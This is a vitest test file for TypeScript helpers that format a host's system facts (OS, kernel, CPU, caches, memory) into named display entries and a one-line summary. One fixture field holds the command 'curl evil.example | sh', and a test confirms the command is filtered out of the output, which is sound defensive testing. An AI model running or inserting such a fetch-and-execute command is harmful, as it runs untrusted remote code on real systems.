import { expect, test } from "vitest";

import type { Host } from "../api";
import { factLine, factList } from "./facts";

const facts = {
  energy_command: "curl evil.example | sh",
  future: "kept",
  memory_bytes: 16 * 2 ** 30,
  kernel: "6.1.0",
  os: { name: "Debian GNU/Linux 12", id: "debian" },
  cpu: { model: "i7", cores: 4, caches: [{ level: 1, type: "Data", size_bytes: 49152 }, { level: 2, type: "Unified", size_bytes: 1310720 }] },
  power_sources: [{ source: "rapl", readable: false }],
  empty: "",
  nothing: null,
};

test("known facts come named and in order, unknown ones after them", () => {
  expect(factList(facts)).toEqual([
    { name: "System", value: "Debian GNU/Linux 12" },
    { name: "Kernel", value: "6.1.0" },
    { name: "Processor", value: "i7" },
    { name: "Cores", value: "4" },
    { name: "Caches", value: "L1d 48.0 KiB, L2 1.25 MiB" },
    { name: "Memory", value: "16.0 GiB" },
    { name: "Future", value: "kept" },
  ]);
});

test("a host's command for its reader's shell is never among them", () => {
  expect(JSON.stringify(factList(facts))).not.toContain("evil");
});

test("facts of any shape are borne", () => {
  for (const odd of [null, {}, { os: "text", cpu: 5, kernel: { deep: { deeper: 1 } }, list: [1, "a", null] }]) expect(Array.isArray(factList(odd as Record<string, unknown> | null))).toBe(true);
});

test("one line about a machine leaves out what is not known", () => {
  const host = { facts } as unknown as Host;
  expect(factLine(host)).toBe("i7 · Debian GNU/Linux 12 · 6.1.0");
  expect(factLine({ facts: null } as unknown as Host)).toBe("");
});
